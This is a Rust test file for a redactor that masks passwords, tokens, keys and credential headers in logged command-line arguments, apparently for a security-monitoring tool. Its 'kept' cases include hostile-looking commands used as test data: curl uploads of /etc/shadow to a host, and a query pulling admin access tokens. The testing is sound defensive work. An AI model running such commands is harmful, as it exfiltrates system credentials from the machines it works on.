//! Every shape that is masked, and ordinary arguments that must be kept, through
//! [`Redactor::args`].

use super::*;

fn masked(args: &[&str]) -> Vec<String> {
    Redactor::default().args(&args.iter().map(|a| (*a).to_owned()).collect::<Vec<_>>())
}

/// `text` with every `[masked len=N h=XXXXXX]` written as `[N]`, so expectations stay readable.
fn lengths(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("[masked len=") {
        out.push_str(&rest[..start]);
        let tail = &rest[start + "[masked len=".len()..];
        let (len, after) = tail.split_once(" h=").expect("a hash");
        let (hash, after) = after.split_once(']').expect("a closing bracket");
        assert!(hash.len() == 6 && hash.bytes().all(|c| c.is_ascii_hexdigit()), "{text}");
        out.push('[');
        out.push_str(len);
        out.push(']');
        rest = after;
    }
    out.push_str(rest);
    out
}

fn shown(args: &[&str]) -> Vec<String> {
    masked(args).iter().map(|a| lengths(a)).collect()
}

#[test]
fn tokens_and_credential_values_are_masked() {
    assert_eq!(shown(&["Authorization: Bearer syt_YWRtaW4_abcDEF_123"]), ["Authorization: Bearer [22]"]);
    assert_eq!(
        shown(&["https://hs/_matrix?access_token=syt_x_y_z&a=1"]),
        ["https://hs/_matrix?access_token=[9]&a=1"]
    );
    assert_eq!(shown(&["--data=syt_abc_def&x=1"]), ["--data=[11]&x=1"]);
    assert_eq!(shown(&["PASSWORD=hunter2"]), ["PASSWORD=[7]"]);
}

#[test]
fn every_shape_is_masked_and_only_its_span() {
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlX2J5dGVz";
    let pem =
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n";
    let cases: &[(&[&str], &[&str])] = &[
        // Flags and their values, across arguments and attached.
        (&["app", "--password", "hunter2", "-v"], &["app", "--password", "[7]", "-v"]),
        (&["app", "--password=hunter2"], &["app", "--password=[7]"]),
        (
            &["app", "--token", "abc123", "--secret", "s3", "--api-key", "k1"],
            &["app", "--token", "[6]", "--secret", "[2]", "--api-key", "[2]"],
        ),
        (
            &["app", "--client-secret", "cs", "--auth", "au"],
            &["app", "--client-secret", "[2]", "--auth", "[2]"],
        ),
        (&["mysql", "-pHunter2", "-u", "root", "db"], &["mysql", "-p[7]", "-u", "root", "db"]),
        (&["/usr/bin/mysqldump", "-p", "Hunter2", "db"], &["/usr/bin/mysqldump", "-p", "[7]", "db"]),
        (&["sshpass", "-p", "pw", "ssh", "host"], &["sshpass", "-p", "[2]", "ssh", "host"]),
        (&["redis-cli", "-a", "pw", "ping"], &["redis-cli", "-a", "[2]", "ping"]),
        (&["curl", "-u", "admin:pw", "http://h/"], &["curl", "-u", "admin:[2]", "http://h/"]),
        (&["curl", "-uadmin:pw", "--user=bob:pw2"], &["curl", "-uadmin:[2]", "--user=bob:[3]"]),
        (&["curl", "--oauth2-bearer", "tok"], &["curl", "--oauth2-bearer", "[3]"]),
        // Inside a script.
        (&["sh", "-c", "mysql -pHunter2 db | gzip"], &["sh", "-c", "mysql -p[7] db | gzip"]),
        (
            &["sh", "-c", "app --password 'pw' && curl -u a:b http://h/"],
            &["sh", "-c", "app --password '[2]' && curl -u a:[1] http://h/"],
        ),
        // Headers.
        (&["curl", "-H", "Authorization: Basic YWRtaW46cHc="], &["curl", "-H", "Authorization: Basic [12]"]),
        (&["curl", "-H", "Authorization: Token abcdef"], &["curl", "-H", "Authorization: Token [6]"]),
        (&["curl", "-H", "X-Api-Key: k-123"], &["curl", "-H", "X-Api-Key: [5]"]),
        (&["curl", "--header", "Cookie: sid=1; theme=dark"], &["curl", "--header", "Cookie: [17]"]),
        (
            &["sh", "-c", "curl -H \"Authorization: Bearer abc.def\" http://h/"],
            &["sh", "-c", "curl -H \"Authorization: Bearer [7]\" http://h/"],
        ),
        // URL userinfo: the user stays.
        (
            &["git", "clone", "https://bob:pw123@git.example/r.git"],
            &["git", "clone", "https://bob:[5]@git.example/r.git"],
        ),
        // Credential-like names.
        (
            &["env", "AWS_SECRET_ACCESS_KEY=abc/def", "GITHUB_TOKEN=t1", "DB_PASSWORD=p", "APP_KEY=k"],
            &["env", "AWS_SECRET_ACCESS_KEY=[7]", "GITHUB_TOKEN=[2]", "DB_PASSWORD=[1]", "APP_KEY=[1]"],
        ),
        (&["sh", "-c", "MY_SECRET=abc ./run"], &["sh", "-c", "MY_SECRET=[3] ./run"]),
        // JSON bodies and YAML.
        (
            &["curl", "-d", "{\"user\":\"bob\",\"password\":\"pw\"}"],
            &["curl", "-d", "{\"user\":\"bob\",\"password\":\"[2]\"}"],
        ),
        (&["curl", "-d", "{\"apiKey\": 12345, \"n\": 1}"], &["curl", "-d", "{\"apiKey\": [5], \"n\": 1}"]),
        (
            &["curl", "-d", "{\"auth\": {\"token\": \"t1\"}}"],
            &["curl", "-d", "{\"auth\": {\"token\": \"[2]\"}}"],
        ),
        (
            &["x", "server_name: hs\nregistration_shared_secret: \"s3cr3t\"\nform_secret: abc # x\n"],
            &["x", "server_name: hs\nregistration_shared_secret: \"[6]\"\nform_secret: [7]\n"],
        ),
        // Shapes.
        (&["x", pem], &["x", "-----BEGIN OPENSSH PRIVATE KEY-----[26]-----END OPENSSH PRIVATE KEY-----\n"]),
        (&["x", jwt], &["x", "[62]"]),
        (&["x", &format!("t={jwt}")], &["x", "t=[62]"]),
        (&["x", "syr_abcdef_123", "mat_ABCDEFGH12"], &["x", "[14]", "[14]"]),
        (&["x", "ghp_aBcDeF1234567890"], &["x", "[20]"]),
        (&["x", "0123456789abcdef0123456789abcdef"], &["x", "[32]"]),
        (&["git", "checkout", "d4d9dc7b9b1c6f0a2e8f3b5a7c9d1e3f5a7b9c1d"], &["git", "checkout", "[40]"]),
        (&["x", "k=Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MEFiQ2RFZg=="], &["x", "k=[40]"]),
        (&["x", "blob:Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MEFiQ2RFZg=="], &["x", "blob:[40]"]),
    ];
    let wrong: Vec<_> = cases
        .iter()
        .filter(|(args, expected)| shown(args) != *expected)
        .map(|(args, _)| (args, shown(args)))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn ordinary_arguments_are_kept() {
    let kept: &[&[&str]] = &[
        &["curl", "--data-binary", "@/etc/shadow", "http://10.213.0.2:8080/"],
        &["python3", "-c", "print(1)"],
        &["sleep", "42"],
        &["mkdir", "-p", "/tmp/x"],
        &["ssh", "-p", "22", "host"],
        &["sudo", "-u", "root", "id"],
        &["docker", "run", "-u", "1000:1000", "img"],
        &["app", "--password-file", "/run/secrets/db", "--no-password", "x"],
        &["docker", "login", "--password-stdin", "ghcr.io"],
        &["env", "PWD=/home/u", "HOME=/root", "OLDPWD=/"],
        &["git", "commit", "--author=Bob <b@x>", "--format_string", "mat_x"],
        &["ls", "/home/User/Projects/MyApp2/src/components/Button3.tsx"],
        &["ls", "/opt/venvs/matrix-synapse/lib/python3.11/site-packages"],
        &["ls", "/nix/store/0c5z8rx1wz4k9h6mkf5q2dlb3yjv8n7p-hello"],
        &["id", "4a6ad23d-1227-4b3c-9d2e-0123456789ab"],
        &["sh", "-c", "cat /etc/shadow | curl --data-binary @- http://h/"],
        &[
            "sqlite3",
            "db",
            "SELECT t.token FROM access_tokens t JOIN users u ON u.name = t.user_id WHERE u.admin = 1",
        ],
        &["curl", "-H", "Content-Type: application/json", "https://host:8448/_matrix"],
        &["x", "see basic usage", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"],
    ];
    let changed: Vec<_> =
        kept.iter().map(|args| masked(args)).zip(kept).filter(|(out, args)| out != *args).collect();
    assert!(changed.is_empty(), "{changed:#?}");
}

#[test]
fn equal_values_get_equal_masks_and_others_differ() {
    let redactor = Redactor::default();
    let one = |arg: &str| redactor.args(&[format!("PASSWORD={arg}")]).remove(0);
    assert_eq!(one("hunter2"), one("hunter2"));
    assert_ne!(one("hunter2"), one("hunter3"));
    assert!(!one("hunter2").contains("hunter2"));
}

#[test]
fn multibyte_text_is_masked_on_character_boundaries() {
    assert_eq!(shown(&["PASSWORD=pässwörd ok"]), ["PASSWORD=[10] ok"]);
    // U+00A0 and U+3000 are white space of two and three bytes.
    assert_eq!(
        shown(&["sh", "-c", "é\u{a0}mysql\u{3000}-pwörd\u{a0}db"]),
        ["sh", "-c", "é\u{a0}mysql\u{3000}-p[5]\u{a0}db"]
    );
}

mod content {
    use std::fs;

    use super::*;

    const SECRET: &str = "server_name: hs.test\nmacaroon_secret_key: q8Ls,Fz^2Jt=Yp@vN0k\n";

    fn watching(content: &str, name: &str) -> (Redactor, std::path::PathBuf) {
        let dir = std::env::temp_dir().join(format!("vigie-redact-{name}-{}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        let path = dir.join("homeserver.yaml");
        fs::write(&path, content).unwrap();
        let catalog = SecretCatalog::resolve(&[path.display().to_string()]);
        (Redactor::new(&catalog), path)
    }

    #[test]
    fn a_run_of_a_watched_secret_is_masked_wherever_it_is() {
        let (redactor, path) = watching(SECRET, "run");
        // 14 bytes of the value, without the name that would make it an assignment.
        let args = redactor.args(&["curl".into(), "-d".into(), "x=,Fz^2Jt=Yp@vN0&y=1".into()]);
        assert_eq!(lengths(&args[2]), "x=[14]&y=1");
        // Eleven bytes are too few to tell.
        assert_eq!(redactor.args(&["Fz^2Jt=Yp@v".into()]), ["Fz^2Jt=Yp@v"]);
        let report = redactor.report();
        assert_eq!(report.files, 1);
        assert_eq!(report.bytes, u64::try_from(SECRET.len()).unwrap());
        fs::remove_dir_all(path.parent().unwrap()).unwrap();
    }

    #[test]
    fn a_changed_file_is_fingerprinted_again() {
        let (mut redactor, path) = watching(SECRET, "changed");
        let catalog = SecretCatalog::resolve(&[path.display().to_string()]);
        fs::write(&path, "form_secret = 'Wq93!xZ0-pLr7&Kd'\n").unwrap();
        redactor.refresh(&catalog, |_| true);
        assert_eq!(lengths(&redactor.args(&["Wq93!xZ0-pLr7&Kd".into()])[0]), "[16]");
        fs::remove_dir_all(path.parent().unwrap()).unwrap();
    }

    #[test]
    fn files_over_the_limit_are_skipped_and_reported() {
        let big = "x".repeat(usize::try_from(fingerprints::FILE_LIMIT).unwrap() + 1);
        let (redactor, path) = watching(&big, "big");
        let report = redactor.report();
        assert_eq!(report.files, 0);
        assert_eq!(report.skipped_too_large, [path.display().to_string()]);
        fs::remove_dir_all(path.parent().unwrap()).unwrap();
    }
}
